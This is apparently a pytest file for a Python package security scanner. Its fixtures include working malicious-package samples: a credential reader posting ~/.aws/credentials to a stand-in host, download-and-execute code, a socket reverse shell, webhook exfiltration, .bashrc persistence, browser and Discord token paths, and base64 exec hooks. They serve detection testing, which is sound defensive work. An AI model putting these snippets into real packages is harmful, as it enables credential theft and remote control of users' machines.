"""End-to-end: the static scan (the `scan` task of the static recipe) on
distributions built by the test. Each family of red flag, put where it
matters, gives its scan.* finding with file:line and an excerpt, and the
verdict's safety is suspicious or malicious (exit 1); benign look-alikes
stay clean (exit 0). Also: Debian's wheels are clean, user rule overrides
work, a broken rules file is pyti's error (exit 3), and reports with
excerpts can be stored. Nothing here runs the code it packs."""
import json
import glob
import zipfile
from pathlib import Path

import pytest

import distbuild

DEBIAN_WHEELS = sorted(glob.glob("/usr/share/python-wheels/*.whl"))
TOP = "demo_pkg-1.0"


def run_static(pyti, tmp_path, dist, check, db=None):
    out = tmp_path / "r.json"
    store = ["--db", db] if db else ["--no-store"]
    cp = pyti("test", "--recipe", "static", dist, "--json", out, *store, check=check)
    return json.loads(out.read_text()), cp


def sdist_with(tmp_path, extra, name="demo-pkg"):
    files = distbuild.project_files(name, extra=extra)
    return distbuild.write_sdist(tmp_path, name=name, files=files)


def wheel_with(tmp_path, extra, name="demo_pkg", version="1.0"):
    """A wheel whose RECORD also lists the extra files (so only the scan
    has something to say)."""
    di = f"{name}-{version}.dist-info"
    files = {
        f"{name}/__init__.py": b"def answer():\n    return 42\n",
        f"{di}/METADATA": distbuild.PKG_INFO.format(name=name.replace("_", "-"),
                                                   version=version).encode(),
        f"{di}/WHEEL": (b"Wheel-Version: 1.0\nGenerator: pyti-tests\n"
                        b"Root-Is-Purelib: true\nTag: py3-none-any\n"),
        f"{di}/top_level.txt": f"{name}\n".encode(),
    }
    files.update(extra)
    lines = [distbuild.record_line(p, d) for p, d in sorted(files.items())]
    lines.append(f"{di}/RECORD,,")
    files[f"{di}/RECORD"] = ("\n".join(lines) + "\n").encode()
    path = Path(tmp_path) / f"{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for rel, data in files.items():
            zf.writestr(rel, data)
    return path


def scan_task(report):
    return next(t for t in report["tasks"] if t["name"] == "scan")


def finding(report, fid):
    return next((f for f in report["findings"] if f["id"] == fid), None)


SETUP_CMDCLASS = b"""\
import os
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        os.system("echo installed > installed.marker")


setup(name="demo-pkg", version="1.0", cmdclass={"install": PostInstall})
"""

EXEC_B64 = b"""\
import base64

_P = "cHJpbnQoJ2hlbGxvJyk="


def answer():
    return 42


exec(base64.b64decode(_P))
"""

CREDS = b"""\
import os
import requests


def sync():
    path = os.path.expanduser("~/.aws/credentials")
    with open(path) as f:
        requests.post("https://collector.example.invalid/u", data=f.read())
"""

DOWNLOAD_EXEC = b"""\
import os
import subprocess
import urllib.request


def update():
    urllib.request.urlretrieve("http://updates.example.invalid/u", "/tmp/u")
    os.chmod("/tmp/u", 0o755)
    subprocess.Popen(["/tmp/u"])
"""

REVERSE_SHELL = b"""\
import os
import socket
import subprocess


def connect(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, port))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    subprocess.call(["/bin/sh", "-i"])
"""

WEBHOOK = b"""\
import json
import urllib.request

HOOK = "https://discord.com/api/webhooks/112233445566778899/AbCdEfGhIjKlMnOpQrStUvWxYz0123456789-_ab"


def report(msg):
    req = urllib.request.Request(HOOK, data=json.dumps({"content": msg}).encode())
    urllib.request.urlopen(req)
"""

AUTOSTART = b"""\
import os


def persist():
    with open(os.path.expanduser("~/.bashrc"), "a") as f:
        f.write("python3 -m demo_pkg.agent &\\n")
"""

GRABBER = b"""\
import os

ROAMING = os.getenv("APPDATA", "")
PATHS = {
    "Discord": os.path.join(ROAMING, "discord", "Local Storage", "leveldb"),
    "Chrome": os.path.join(os.getenv("LOCALAPPDATA", ""), "Google", "Chrome", "User Data",
                           "Default", "Login Data"),
}
"""

# (case id, files to add to the sdist, finding id, where, safety)
RED_FLAGS = [
    ("cmdclass-os-system", {"setup.py": SETUP_CMDCLASS}, "scan.install-hook-process",
     "setup.py:9", "suspicious"),
    ("exec-base64", {"src/demo_pkg/__init__.py": EXEC_B64}, "scan.exec-base64",
     "src/demo_pkg/__init__.py:10", "malicious"),
    ("credential-read", {"src/demo_pkg/sync.py": CREDS}, "scan.credential-exfil",
     "src/demo_pkg/sync.py:6", "suspicious"),
    ("download-exec", {"src/demo_pkg/update.py": DOWNLOAD_EXEC}, "scan.download-exec",
     "src/demo_pkg/update.py:7", "suspicious"),
    ("reverse-shell", {"src/demo_pkg/rs.py": REVERSE_SHELL}, "scan.reverse-shell-socket",
     "src/demo_pkg/rs.py:9", "malicious"),
    ("webhook", {"src/demo_pkg/notify.py": WEBHOOK}, "scan.webhook-exfil",
     "src/demo_pkg/notify.py:4", "suspicious"),
    ("autostart", {"src/demo_pkg/persist.py": AUTOSTART}, "scan.autostart-write",
     "src/demo_pkg/persist.py:5", "suspicious"),
    ("grabber", {"src/demo_pkg/paths.py": GRABBER}, "scan.discord-token",
     "src/demo_pkg/paths.py:5", "suspicious"),
]


@pytest.mark.parametrize("case,extra,fid,where,safety", RED_FLAGS, ids=[c[0] for c in RED_FLAGS])
def test_red_flag_in_sdist(pyti, tmp_path, case, extra, fid, where, safety):
    sdist = sdist_with(tmp_path, extra)
    report, cp = run_static(pyti, tmp_path, sdist, check=1)
    f = finding(report, fid)
    assert f is not None, [x["id"] for x in report["findings"]]
    assert f["where"] == where
    assert f["task"] == "scan"
    assert f["excerpt"]
    assert scan_task(report)["status"] == "passed"
    assert report["verdict"]["safety"] == safety, report["verdict"]
    assert report["outcome"] == "failed"
    ev = [e for e in report["verdict"]["safety_evidence"] if e.get("id") == fid]
    assert ev and ev[0]["where"] == where and ev[0]["excerpt"] == f["excerpt"]
    # the scan's findings are safety, not quality: the package is not "broken"
    assert report["verdict"]["quality"] in ("ok", "warnings")
    # the summary shows the finding, where, and the excerpt
    assert fid in cp.stdout and where in cp.stdout and "> " in cp.stdout


def test_pth_with_import_in_wheel(pyti, tmp_path):
    whl = wheel_with(tmp_path, {"demo_pkg-hook.pth": b"import demo_pkg; demo_pkg.answer()\n"})
    report, _ = run_static(pyti, tmp_path, whl, check=1)
    f = finding(report, "scan.pth-import")
    assert f and f["where"] == "demo_pkg-hook.pth:1" and f["severity"] == "medium"
    assert report["verdict"]["safety"] == "suspicious"
    assert next(t for t in report["tasks"] if t["name"] == "record")["status"] == "passed"


def test_pth_that_executes_a_payload_is_malicious(pyti, tmp_path):
    whl = wheel_with(tmp_path, {"zz.pth": b"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\n"})
    report, _ = run_static(pyti, tmp_path, whl, check=1)
    assert finding(report, "scan.pth-exec")["severity"] == "critical"
    assert report["verdict"]["safety"] == "malicious"


def test_typosquatted_name(pyti, tmp_path):
    sdist = sdist_with(tmp_path, {}, name="reqeusts")
    report, cp = run_static(pyti, tmp_path, sdist, check=1)
    f = finding(report, "scan.typosquat")
    assert f["severity"] == "medium"
    assert "'requests'" in f["message"] and "swap" in f["message"]
    assert f["where"] == "reqeusts-1.0.tar.gz"
    assert scan_task(report)["data"]["typosquat"]["imitates"] == "requests"
    assert report["verdict"]["safety"] == "suspicious"


def test_typosquat_with_a_payload_escalates(pyti, tmp_path):
    sdist = sdist_with(tmp_path, {"setup.py": SETUP_CMDCLASS}, name="reqeusts")
    report, _ = run_static(pyti, tmp_path, sdist, check=1)
    f = finding(report, "scan.typosquat")
    assert f["severity"] == "critical" and "raised to critical" in f["message"]
    assert report["verdict"]["safety"] == "malicious"


BENIGN = [
    ("base64-data", {"src/demo_pkg/icon.py":
                     b"import base64\n\nICON = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAE=')\n"}),
    ("subprocess-in-tests", {"tests/test_cli.py":
                             b"import subprocess\n\n\ndef test_cli():\n"
                             b"    subprocess.run(['python3', '-c', 'pass'], check=True)\n"}),
    ("requests-module", {"src/demo_pkg/client.py":
                         b"import requests\n\n\ndef fetch(url):\n"
                         b"    return requests.get(url, timeout=10).json()\n"}),
    ("ip-in-license", {"LICENSE": b"MIT License\n\nMirror: 45.33.32.156, 8.26.56.26\n",
                       "src/demo_pkg/net.py": b"# upstream mirror at 45.33.32.156\nPORT = 80\n"}),
    ("version-strings", {"src/demo_pkg/_version.py":
                         b"__version__ = '12.20.30.40'\nREQ = 'foo>=12.2.30.40'\n"
                         b"VERSION_INFO = '12.20.30.41'\n"}),
    ("setup-git-describe", {"setup.py":
                            b"import subprocess\nfrom setuptools import setup\n\n"
                            b"v = subprocess.check_output(['git', 'describe']).decode().strip()\n"
                            b"setup(name='demo-pkg', version=v)\n"}),
    ("exec-version-file", {"setup.py":
                           b"from setuptools import setup\n\nns = {}\n"
                           b"exec(open('src/demo_pkg/_version.py').read(), ns)\n"
                           b"setup(name='demo-pkg', version=ns['__version__'])\n",
                           "src/demo_pkg/_version.py": b"__version__ = '1.0'\n"}),
]


@pytest.mark.parametrize("case,extra", BENIGN, ids=[c[0] for c in BENIGN])
def test_benign_lookalikes_stay_clean(pyti, tmp_path, case, extra):
    sdist = sdist_with(tmp_path, extra)
    report, _ = run_static(pyti, tmp_path, sdist, check=0)
    assert report["verdict"]["safety"] == "clean", report["findings"]
    assert report["outcome"] == "passed"
    assert not [f for f in report["findings"]
                if f["id"].startswith("scan.") and f["severity"] not in ("info", "low")]


def test_pth_with_only_paths_is_clean(pyti, tmp_path):
    whl = wheel_with(tmp_path, {"demo_pkg-paths.pth": b"demo_pkg/lib\n# comment\n"})
    report, _ = run_static(pyti, tmp_path, whl, check=0)
    assert report["verdict"]["safety"] == "clean"


@pytest.mark.parametrize("wheel", DEBIAN_WHEELS, ids=lambda p: Path(p).name)
def test_debian_wheels_are_clean(pyti, tmp_path, wheel):
    report, _ = run_static(pyti, tmp_path, wheel, check=0)
    data = scan_task(report)["data"]
    assert data["scan"]["scanned"] > 10
    assert data["scan"]["symlinks"] == 0 and data["scan"]["incomplete"] is False
    assert data["typosquat"] is None
    assert not [f for f in report["findings"] if f["id"].startswith("scan.")
                and f["severity"] not in ("info", "low")], report["findings"]
    assert report["verdict"]["safety"] == "clean"


def user_rules(env):
    d = Path(env["XDG_CONFIG_HOME"]) / "pyti"
    d.mkdir(parents=True, exist_ok=True)
    return d / "scan-rules.ini"


def test_user_rules_override_and_add(pyti, tmp_path, env):
    user_rules(env).write_text(
        "# turn one shipped rule off, lower another, add one\n"
        "[rule install-hook-process]\ndisabled = yes\n\n"
        "[rule build-process]\nseverity = info\n\n"
        "[rule internal-host]\nseverity = high\ncategory = network\n"
        "description = our internal build host must never appear in packages\n"
        "files = @code\npattern = build\\.corp\\.example\\b\n")
    sdist = sdist_with(tmp_path, {"setup.py": SETUP_CMDCLASS})
    report, _ = run_static(pyti, tmp_path, sdist, check=0)
    assert finding(report, "scan.install-hook-process") is None
    assert finding(report, "scan.build-process")["severity"] == "info"
    assert report["verdict"]["safety"] == "clean"
    assert str(user_rules(env)) in scan_task(report)["data"]["rules_files"]

    second = tmp_path / "second"
    second.mkdir()
    sdist2 = sdist_with(second, {"src/demo_pkg/cfg.py": b"HOST = 'build.corp.example'\n"})
    report, _ = run_static(pyti, tmp_path, sdist2, check=1)
    f = finding(report, "scan.internal-host")
    assert f["where"] == "src/demo_pkg/cfg.py:1" and f["severity"] == "high"


def test_broken_user_rules_are_an_error_naming_file_and_line(pyti, tmp_path, env):
    user_rules(env).write_text("[rule mine]\nseverity = high\ncategory = x\n"
                               "description = d\npattern = (unclosed\n")
    sdist = sdist_with(tmp_path, {})
    report, cp = run_static(pyti, tmp_path, sdist, check=3)
    t = scan_task(report)
    assert t["status"] == "error"
    assert f"{user_rules(env)}:5: rule 'mine': pattern:" in t["reason"]
    assert report["verdict"]["safety"] == "unassessed"


def test_report_with_excerpts_is_stored(pyti, tmp_path):
    db = tmp_path / "pyti.db"
    sdist = sdist_with(tmp_path, {"src/demo_pkg/rs.py": REVERSE_SHELL})
    report, _ = run_static(pyti, tmp_path, sdist, check=1, db=db)
    cp = pyti("report", report["id"], "--db", db, "--json", check=0)
    stored = json.loads(cp.stdout)
    f = finding(stored, "scan.reverse-shell-socket")
    assert f["excerpt"].startswith("os.dup2(s.fileno(), 0)")
    # and a report carrying excerpts passes validation when stored again
    path = tmp_path / "again.json"
    path.write_text(json.dumps(stored))
    pyti("store", path, "--db", tmp_path / "other.db", check=0)


def test_symlinks_in_the_sdist_are_not_followed(pyti, tmp_path):
    import io
    import tarfile
    target = tmp_path / "outside.py"
    target.write_text("__import__('os').system('id')\n")
    path = tmp_path / "demo_pkg-1.0.tar.gz"
    files = distbuild.project_files("demo-pkg")
    with tarfile.open(path, "w:gz") as tf:
        for rel, data in sorted(files.items()):
            info = tarfile.TarInfo(f"{TOP}/{rel}")
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
        link = tarfile.TarInfo(f"{TOP}/src/demo_pkg/link.py")
        link.type = tarfile.SYMTYPE
        link.linkname = "__init__.py"
        tf.addfile(link)
    report, _ = run_static(pyti, tmp_path, path, check=0)
    assert scan_task(report)["data"]["scan"]["symlinks"] == 1
    assert report["verdict"]["safety"] == "clean"
